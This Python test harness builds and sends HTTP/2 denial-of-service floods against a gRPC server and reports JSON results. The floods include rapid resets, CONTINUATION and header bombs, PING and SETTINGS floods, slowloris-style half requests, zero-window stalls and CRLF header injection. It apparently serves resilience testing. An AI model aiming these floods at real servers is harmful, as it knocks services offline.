"""Rows A1-A15 as floods of hand-made frames, prepared as blocks so that one sender fills a core of the server.

`python attacks.py NAME ADDRESS DOSE SECONDS` runs one and prints what became of it as JSON; it needs no other module of
the tests but raw.py. Requests come as hexadecimal protobuf in ATTACK_TRACK and ATTACK_GET.
"""

import contextlib
import json
import os
import re
import resource
import select
import socket
import struct
import sys
import time

import hpack

from raw import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    PADDED,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    TRACK,
    WINDOW_UPDATE,
    frame,
    message,
)

CHUNK = 64 * 1024
GET = "/profiles.v1.Profiles/GetProfile"
TRACK_REQUEST = message(bytes.fromhex(os.environ.get("ATTACK_TRACK", "")))
GET_REQUEST = message(bytes.fromhex(os.environ.get("ATTACK_GET", "")))
NO_WINDOW = b"\0\x04" + struct.pack(">I", 0)
ONE_FRAME = struct.pack(">I", 1)


def block(*extra, path=TRACK, content_type="application/grpc", host=None):
    """A header block without references to the table, so that its bytes are good for every stream."""
    fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "test"),
        ("content-type", content_type),
        *extra,
    ]
    return b"".join(literal(name, value) for name, value in fields)


def literal(name, value):
    """A literal field that is never indexed (RFC 7541, 6.2.3)."""
    encode = hpack.hpack.encode_integer
    name, value = name.encode("latin-1"), value.encode("latin-1")
    length, value_length = encode(len(name), 7), encode(len(value), 7)
    return b"\x10" + bytes(length) + name + bytes(value_length) + value


def head(stream, *extra, end=False, **options):
    return frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, block(*extra, **options))


def streams(count):
    return range(1, 2 * count, 2)


def window(stream, count):
    return frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", count))


class Flood:
    """One attack: `opening` once per connection, then `body`, `frames` frames long. A body whose streams cannot come
    again is sent once per connection, any other again and again."""

    def __init__(self, opening, body, frames, *, again=True, reads=True, settings=b"", connections=1):
        self.opening, self.body, self.frames = opening, body, frames
        self.again, self.reads, self.settings, self.connections = again, reads, settings, connections


def repeated(one, dose, opening=b"", **options):
    return Flood(opening, one * dose, dose, **options)


def per_stream(make, dose, frames_of_one, **options):
    """`make(stream)` for as many streams as the dose allows."""
    count = max(1, dose // frames_of_one)
    body = b"".join(make(stream) for stream in streams(count))
    return Flood(b"", body, count * frames_of_one, again=False, **options)


def cancel(stream):
    return frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


# A stream that the server has reset, as its content type is wrong, and an open one.
RESET_AND_OPEN = head(1, content_type="text/html") + head(3)
REJECTED = {"content_type": "text/html"}

FLOODS = {
    "A1 resets": lambda n: per_stream(lambda s: head(s) + cancel(s), n, 2),
    "A2 resets provoked by a window": lambda n: per_stream(lambda s: head(s) + window(s, 2**31 - 1), n, 2),
    "A2 resets provoked by content-length": lambda n: per_stream(
        lambda s: head(s, ("content-length", "1")) + frame(DATA, END_STREAM, s, b"abc"), n, 2
    ),
    "A3 CONTINUATION": lambda n: repeated(
        frame(CONTINUATION, 0, 1, b""), n, frame(HEADERS, 0, 1, block()), again=False
    ),
    "A4 C7 PING": lambda n: repeated(frame(PING, 0, 0, b"12345678"), n),
    "A4 PING acknowledgements": lambda n: repeated(frame(PING, ACK, 0, b"12345678"), n),
    "A4 unknown frames": lambda n: repeated(frame(0xFA, 0, 0, b""), n),
    "A4 ALTSVC": lambda n: repeated(frame(10, 0, 0, b"\0\x01ah2"), n),
    "A4 GOAWAY": lambda n: repeated(frame(GOAWAY, 0, 0, b"\0" * 8), n),
    "A5 SETTINGS": lambda n: repeated(frame(SETTINGS, 0, 0, b"\0\x04\0\0\xff\xff"), n),
    "A5 SETTINGS of 32 entries, 90 streams": lambda n: repeated(
        frame(SETTINGS, 0, 0, (b"\0\x04\0\0\xff\xff" + b"\0\x04\0\0\xff\xfe") * 16),
        n,
        b"".join(head(s) for s in streams(90)),
    ),
    "A6 empty DATA": lambda n: repeated(frame(DATA, 0, 1, b""), n, head(1)),
    "A6 empty DATA on 90 streams": lambda n: Flood(
        b"".join(head(s) for s in streams(90)),
        b"".join(frame(DATA, 0, s, b"") for s in streams(90)) * (n // 90),
        n // 90 * 90,
        again=False,
    ),
    "A6 padding only": lambda n: repeated(frame(DATA, PADDED, 1, b"\x04\0\0\0\0"), n, head(1)),
    "A6 DATA of a reset stream": lambda n: repeated(frame(DATA, 0, 1, b"x"), n, RESET_AND_OPEN),
    "A6 HEADERS and DATA of rejected calls": lambda n: per_stream(
        lambda s: head(s, **REJECTED) + frame(DATA, 0, s, b""), n, 2
    ),
    "A7 header lists of 60,000 bytes": lambda n: Flood(
        b"", b"".join(header_bomb(s) for s in streams(min(n // 4, 1_000))), min(n // 4, 1_000) * 4, again=False
    ),
    "A8 windows of the connection": lambda n: repeated(window(0, 1), n),
    "A8 windows of a closed stream": lambda n: repeated(window(1, 1), n, RESET_AND_OPEN),
    "A8 DATA of one byte": lambda n: Flood(
        head(1) + frame(DATA, 0, 1, b"\0" + struct.pack(">I", 4 << 20)),
        frame(DATA, 0, 1, b"x") * n,
        n,
    ),
    "A8 responses by windows of one byte": lambda n: Flood(
        head(1, path=GET) + frame(DATA, END_STREAM, 1, GET_REQUEST), window(1, 1) * n, n, settings=NO_WINDOW
    ),
    "A9 PRIORITY": lambda n: repeated(frame(PRIORITY, 0, 2001, b"\0\0\0\0\x10"), n),
    "A9 PRIORITY_UPDATE": lambda n: repeated(frame(16, 0, 0, b"\0\0\0\x03u=1"), n, RESET_AND_OPEN),
    "A10 calls whose responses are not read": lambda n: per_stream(
        lambda s: head(s, path=GET) + frame(DATA, END_STREAM, s, GET_REQUEST), n, 2, reads=False
    ),
    "A11 DATA after the end": lambda n: per_stream(
        lambda s: head(s, end=True) + frame(DATA, 0, s, b"x"), n, 2
    ),
    "A12 empty header names": lambda n: per_stream(
        lambda s: frame(HEADERS, END_HEADERS | END_STREAM, s, block() + literal("", "x")), n, 1
    ),
    "A13 half prefaces": lambda n: Flood(b"", b"", 0, connections=200),
    "A13 half header blocks": lambda n: Flood(frame(HEADERS, 0, 1, block()), b"", 0, connections=200),
    "A13 half bodies": lambda n: Flood(head(1) + frame(DATA, 0, 1, TRACK_REQUEST[:-1]), b"", 0, connections=200),
    "A13 half bodies of 4 MiB": lambda n: Flood(
        b"".join(half_of_4_mib(s) for s in streams(100)), b"", 0, connections=40
    ),
    "A14 responses behind no window": lambda n: Flood(
        b"".join(head(s, path=GET) + frame(DATA, END_STREAM, s, GET_REQUEST) for s in streams(50)),
        b"",
        0,
        settings=NO_WINDOW,
        connections=20,
    ),
    "A15 line ends in values": lambda n: per_stream(
        lambda s: head(s, ("x-a", "a\r\nb: c"), end=True), n, 1
    ),
    "A15 another host": lambda n: per_stream(lambda s: head(s, ("host", "other"), end=True), n, 1),
}


def half_of_4_mib(stream):
    """As much of the largest message as the first window of its stream takes."""
    body = (b"\0" + struct.pack(">I", 4 << 20)).ljust(65_000, b"x")
    parts = [body[at : at + 16_000] for at in range(0, len(body), 16_000)]
    return head(stream) + b"".join(frame(DATA, 0, stream, part) for part in parts)


def header_bomb(stream):
    fields = block() + literal("x-a", "v" * 3_000) * 19
    parts = [fields[at : at + 15_500] for at in range(0, len(fields), 15_500)]
    frames = [frame(HEADERS, 0, stream, parts[0])]
    frames += [frame(CONTINUATION, 0, stream, part) for part in parts[1:-1]]
    return b"".join(frames) + frame(CONTINUATION, END_HEADERS, stream, parts[-1])


class Attacker:
    """Sends one flood over one connection at a time, or holds many connections, until its time is over."""

    def __init__(self, flood, address, half_preface=False):
        host, port = address.rsplit(":", 1)
        self.flood, self.target, self.half_preface = flood, (host, int(port)), half_preface
        # Apart from the honest client's address, as limits of a peer count for this one alone.
        self.source = ("127.0.0.9", 0)
        self.goaways, self.cuts, self.sent_until_cut, self.frames = set(), 0, [], 0

    def connect(self):
        connection = socket.create_connection(self.target, timeout=20, source_address=self.source)
        if not self.flood.reads:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4_096)
        opening = PREFACE[:8]
        if not self.half_preface:
            opening = PREFACE + frame(SETTINGS, 0, 0, self.flood.settings) + frame(SETTINGS, ACK) + self.flood.opening
        # A connection that is rejected as one too many may be closed by now; the next write says so.
        with contextlib.suppress(ConnectionError):
            connection.sendall(opening)
        return connection

    def run(self, seconds):
        """At least one dose; further ones, on new connections where one is cut, until the time is over."""
        end = time.monotonic() + seconds
        if self.flood.connections > 1:
            return self.hold(end)
        connection, begun = self.connect(), 0
        while True:
            sent, is_cut = self.send(connection, self.flood.body, end)
            begun += sent
            if is_cut:
                self.cuts += 1
                self.sent_until_cut.append(self.frames_in(begun))
            self.frames += self.frames_in(sent)
            if time.monotonic() >= end:
                break
            if is_cut or not self.flood.again:
                connection.close()
                connection, begun = self.connect(), 0
        connection.close()

    def frames_in(self, count):
        return round(count * self.flood.frames / max(1, len(self.flood.body)))

    def send(self, connection, data, end):
        """Sends as fast as the server takes it and reads what comes; the last dose waits for the server's reaction.

        Returns the bytes sent and whether the server closed the connection.
        """
        connection.setblocking(False)
        view, at, tail = memoryview(data), 0, b""
        reads = select.POLLIN if self.flood.reads else 0
        poller = select.poll()
        poller.register(connection, reads | select.POLLOUT)
        while True:
            if at == len(view):
                if time.monotonic() < end:
                    return at, False
                poller.modify(connection, reads)
            events = poller.poll(1_000)
            if not events:
                # The server takes no more, or has nothing more to say.
                return at, False
            ready = events[0][1]
            try:
                if ready & reads:
                    received = connection.recv(1 << 20)
                    tail = self.scan(tail + received)
                    if not received:
                        return at, True
                elif ready & (select.POLLHUP | select.POLLERR):
                    return at, True
                if ready & select.POLLOUT and at < len(view):
                    at += connection.send(view[at : at + CHUNK])
            except BlockingIOError:
                pass
            except OSError:
                self.drain(connection, tail)
                return at, True

    def drain(self, connection, tail):
        """What the server said before it closed."""
        try:
            while received := connection.recv(1 << 20):
                tail = self.scan(tail + received)
        except OSError:
            pass

    def scan(self, received):
        pattern = rb"\x00\x00(.)\x07\x00\x00\x00\x00\x00....\x00\x00\x00([\x00-\x0d])([a-z_A-Z :]*)"
        for found in re.finditer(pattern, received, re.S):
            if found[1][0] == 8 + len(found[3]):
                self.goaways.add(f"{found[2][0]} {found[3].decode()}".strip())
        return received[-64:]

    def hold(self, end):
        held = []
        while time.monotonic() < end or not held:
            while len(held) < self.flood.connections:
                held.append(self.connect())
            time.sleep(0.05)
        # Enough for the server to have read all of it.
        time.sleep(0.5)
        for connection in held:
            connection.close()


def main(name, address, dose, seconds):
    # Nothing here may wait for the honest client's share of a core.
    resource.setrlimit(resource.RLIMIT_NOFILE, (4_096, 4_096))
    flood = FLOODS[name](int(dose))
    attacker = Attacker(flood, address, half_preface=name == "A13 half prefaces")
    print("ready", flush=True)
    sys.stdin.readline()
    attacker.run(float(seconds))
    print(
        json.dumps(
            {
                "frames": attacker.frames,
                "cuts": attacker.cuts,
                "sent_until_cut": max(attacker.sent_until_cut, default=None),
                "goaways": sorted(attacker.goaways),
            }
        )
    )


if __name__ == "__main__":
    main(*sys.argv[1:])
